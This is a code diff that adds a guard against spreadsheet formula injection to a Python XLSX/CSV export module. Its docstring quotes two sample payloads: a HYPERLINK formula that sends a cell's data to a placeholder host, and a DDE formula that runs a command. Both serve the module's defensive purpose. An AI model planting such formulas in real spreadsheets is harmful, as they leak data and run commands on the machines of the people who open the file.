@@ -7,11 +7,17 @@ Every value goes through :func:`cell` (XLSX) or :func:`csv_value` (CSV): identif
 so Excel never turns a NIK into ``1.80419E+15``, numbers are numbers, dates are dates shown
 ``DD-MM-YYYY``. Every sheet has its header bold and frozen, an auto-filter and column widths
 (:func:`begin_sheet`, :func:`end_sheet`).
+
+Every cell Kawal writes into a spreadsheet, XLSX or CSV, passes :func:`neutralise`: the one
+guard against formula injection (OWASP "CSV injection"). A name, address or note typed as
+``=HYPERLINK("http://x/?d="&D2,"klik")`` or ``+cmd|' /C calc'!A0`` reaches Dinsos' Excel as
+text, never as a live formula.
 """
 
 from __future__ import annotations
 
 import datetime as dt
+import re
 from collections.abc import Iterable, Sequence
 from pathlib import Path
 from typing import Any
@@ -25,12 +31,65 @@ __all__ = [
     "count_cells",
     "csv_value",
     "end_sheet",
+    "is_formula_like",
+    "neutralise",
     "progress_table",
+    "safe_row",
     "write_progress_xlsx",
     "write_sheets",
 ]
 
 Sheet = tuple[str, Sequence[str], Iterable[Sequence[Any]]]
+
+
+# What a spreadsheet reads as the start of a formula (also the full-width forms LibreOffice
+# accepts), and the tab / carriage return that shift a CSV cell.
+_FORMULA_LEAD = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+_CONTROL_LEAD = frozenset("\t\r\n")
+# Plain numbers and coordinates ("-5.123456, 104.123456"): a leading minus, but no function,
+# reference or operator a formula could use.
+_PLAIN_NUMBERS = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?(?:\s*,\s*-?[0-9]+(?:[.,][0-9]+)?)*")
+
+
+def is_formula_like(text: str) -> bool:
+    """True when a spreadsheet could read ``text`` as a formula: it starts with ``= + - @``
+    (also after leading blanks), a tab or a line break. Plain (negative) numbers are not."""
+    if not text:
+        return False
+    if text[0] in _CONTROL_LEAD:
+        return True
+    stripped = text.lstrip()
+    if not stripped or stripped[0] not in _FORMULA_LEAD:
+        return False
+    return not _PLAIN_NUMBERS.fullmatch(stripped)
+
+
+def neutralise(value: Any, sheet: Any = None) -> Any:
+    """The value of one spreadsheet cell, safe from formula injection.
+
+    Without ``sheet`` (CSV): a formula-like string gets a leading ``'``, which Excel and
+    LibreOffice show and never evaluate. With a write-only ``sheet`` (XLSX): a formula-like
+    string becomes a text cell with Excel's quote prefix (editing it keeps it text). Anything
+    else (numbers, dates, ordinary text) is returned unchanged and stays typed."""
+    if not isinstance(value, str) or not is_formula_like(value):
+        return value
+    if sheet is None:
+        return "'" + value
+    from openpyxl.cell import WriteOnlyCell
+
+    return _as_text(WriteOnlyCell(sheet, value=value))
+
+
+def _as_text(cell: Any) -> Any:
+    """An openpyxl cell shown and kept as text: a string cell with Excel's quote prefix."""
+    cell.data_type = "s"  # openpyxl makes "=..." a formula ("f")
+    cell.quotePrefix = True
+    return cell
+
+
+def safe_row(row: Iterable[Any], sheet: Any = None) -> list[Any]:
+    """:func:`neutralise` over a row (``sheet``: the XLSX sheet it goes to; None for CSV)."""
+    return [neutralise(value, sheet) for value in row]
 
 
 def count_cells(counts: ProgressCounts) -> list[Any]:
@@ -120,7 +179,7 @@ def cell(sheet: Any, value: Any) -> Any:
         typed = WriteOnlyCell(sheet, value=value)
         typed.number_format = DECIMAL_FORMAT
     else:
-        return str(value)
+        return neutralise(str(value), sheet)
     return typed
 
 
@@ -136,7 +195,7 @@ def csv_value(value: Any) -> Any:
         return value.strftime("%d-%m-%Y")
     if isinstance(value, float):
         return f"{value:.10f}".rstrip("0").rstrip(".").replace(".", ",")
-    return value
+    return neutralise(value)
 
 
 def column_width(header: str) -> float:
@@ -159,6 +218,8 @@ def begin_sheet(sheet: Any, header: Sequence[str], widths: Sequence[float] = ())
     cells = []
     for name in header:
         typed = WriteOnlyCell(sheet, value=name)
+        if isinstance(name, str) and is_formula_like(name):
+            _as_text(typed)
         typed.font = bold
         cells.append(typed)
     sheet.append(cells)
